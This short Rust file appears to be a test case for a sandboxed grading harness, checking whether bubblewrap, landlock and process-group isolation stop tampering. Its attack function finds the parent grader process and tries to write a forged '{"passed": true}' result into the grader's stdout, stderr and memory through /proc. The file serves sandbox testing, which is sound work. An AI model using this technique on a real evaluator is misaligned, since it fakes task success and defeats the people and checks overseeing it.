//! Writes into the memory and the output of the process that grades it.
//!
//! bubblewrap: 14
//! landlock: 14
//! process-group: 14

fn attack() {
    use std::io::Write;
    let grader = std::os::unix::process::parent_id();
    for file in ["fd/1", "fd/2", "mem"] {
        if let Ok(mut file) = std::fs::OpenOptions::new().write(true).open(format!("/proc/{grader}/{file}")) {
            let _ = file.write_all(b"{\"passed\": true}\n");
        }
    }
}
